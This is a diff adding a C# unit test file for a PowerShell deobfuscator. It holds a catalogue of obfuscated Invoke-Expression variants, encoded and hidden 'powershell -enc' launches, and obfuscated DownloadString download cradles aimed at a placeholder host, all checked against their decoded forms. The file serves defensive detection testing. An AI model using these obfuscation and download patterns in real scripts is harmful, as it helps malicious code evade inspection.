@@ -1,0 +1,63 @@
+using Afterpatch.Scripts.PowerShell;
+using Xunit;
+
+namespace Afterpatch.Scripts.Tests.PowerShell;
+
+public sealed class DeobfuscationTests
+{
+    private static string Clear(string script) => Deobfuscator.Judge(script).Text.Trim();
+
+    [Theory]
+    [InlineData("&('{1}{0}'-f 'ex','i') (\"wri\"+\"te-host 'hi there'\")", "write-host 'hi there'")]
+    [InlineData("& ($env:ComSpec[4,15,25]-join'') 'Get-Date'", "Get-Date")]
+    [InlineData("'Get-Date' | .($PSHOME[4]+$PSHOME[30]+'x')", "Get-Date")]
+    [InlineData("& ($ShellId[1]+$ShellId[13]+'x') 'Get-Date'", "Get-Date")]
+    [InlineData("'Get-Date'|&($VerbosePreference.ToString()[1,3]+'x'-join'')", "Get-Date")]
+    [InlineData("&((gv '*mdr*').name[3,11,2]-join'') 'Get-Date'", "Get-Date")]
+    [InlineData("&((Variable '*mdr*').Name[3,11,2]-Join'') 'Get-Date'", "Get-Date")]
+    [InlineData("& ($env:public[13]+$env:public[5]+'x') 'Get-Date'", "Get-Date")]
+    [InlineData("& (([string]''.IndexOf)[0,7,8]-join'') 'Get-Date'", "Get-Date")]
+    [InlineData("[ScriptBlock]::Create('Get-Date').Invoke()", "Get-Date")]
+    [InlineData("& ([ScriptBlock]::Create('Get-Date'))", "Get-Date")]
+    [InlineData("$ExecutionContext.InvokeCommand.InvokeScript('Get-Date')", "Get-Date")]
+    [InlineData("$ExecutionContext.InvokeCommand.(($ExecutionContext.InvokeCommand.PsObject.Methods|?{$_.Name-clike'I*t'}).Name)", null)]
+    [InlineData("&(gcm *w-O*) System.Text.StringBuilder", "New-Object System.Text.StringBuilder")]
+    [InlineData("i`eX 'Get-Date'", "Get-Date")]
+    [InlineData("(New-Object Net.WebClient).\"Do`wnload`String\"('http://a.example/')", "(New-Object Net.WebClient).DownloadString('http://a.example/')")]
+    [InlineData("$w.('Down'+'loadString').Invoke('http://a.example/')", "$w.DownloadString('http://a.example/')")]
+    [InlineData("iex (('ZZZet-DaYYY').Replace('ZZZ','G').Replace('YYY','te'))", "Get-Date")]
+    [InlineData("iex ('Get-Da##' -creplace '##','te')", "Get-Date")]
+    [InlineData("iex ('etaD-teG'[-1..-8] -join '')", "Get-Date")]
+    [InlineData("$c='etaD-teG'.ToCharArray();[array]::Reverse($c);iex(-join $c)", "Get-Date")]
+    [InlineData("iex (-join('47P65P74P2DP44P61P74P65'.Split('P')|%{[char][convert]::ToInt32($_,16)}))", "Get-Date")]
+    [InlineData("iex (-join('107o145o164o55o104o141o164o145'.Split('o')|ForEach-Object{[char]([convert]::ToInt16(([string]$_),8))}))", "Get-Date")]
+    [InlineData("iex ([string]::Join('',(71,101,116,45,68,97,116,101|%{[char]$_})))", "Get-Date")]
+    [InlineData("iex (-join([char[]](71,101,116,45,68,97,116,101)))", "Get-Date")]
+    [InlineData("$s='';foreach($b in 100,70,87,14,103,66,87,70){$s+=[char]($b -bxor 35)};iex $s", "Get-Date")]
+    [InlineData("function d($t){[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($t))};iex (d 'R2V0LURhdGU=')", "Get-Date")]
+    [InlineData("powershell -nop -w hidden -enc RwBlAHQALQBEAGEAdABlAA==", "Get-Date")]
+    [InlineData("RwBlAHQALQBEAGEAdABlAA==RwBl", null)]
+    [InlineData("RwBlAHQALQBEAGEAdABlAA==", "Get-Date")]
+    [InlineData("iex (New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('c08t0XVJLEkFAA=='),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()", "Get-Date")]
+    public void What_was_hidden_is_said_in_the_clear(string hidden, string? plain)
+    {
+        var text = Clear(hidden);
+        if (plain is not null)
+            Assert.Equal(plain, text);
+    }
+
+    [Theory]
+    [InlineData("$path = \"C:\\temp\"; Get-ChildItem $path | Where-Object { $_.Length -gt 1MB }")]
+    [InlineData("$msg = \"Hello \" + \"World\"; Write-Host ([char]34 + $msg + [char]34)")]
+    [InlineData("'{0} is {1}' -f $i.Name, $i.Length")]
+    [InlineData("$list = 'a,b,c'.Split(','); $list -join ';'")]
+    [InlineData("$x = $y -replace '\\\\','/'; & \"$PSScriptRoot\\other.ps1\" -Path $x")]
+    [InlineData("$bytes = [Convert]::FromBase64String('AAECAwQFBgcICQ=='); [IO.File]::WriteAllBytes($p, $bytes)")]
+    [InlineData("using module Foo\nconfiguration Bar { Node localhost { } }\n'using configuration'")]
+    public void What_hides_nothing_keeps_its_text(string script)
+    {
+        var judgement = Deobfuscator.Judge(script);
+        Assert.Equal(script, judgement.Text);
+        Assert.False(judgement.Malicious);
+    }
+}
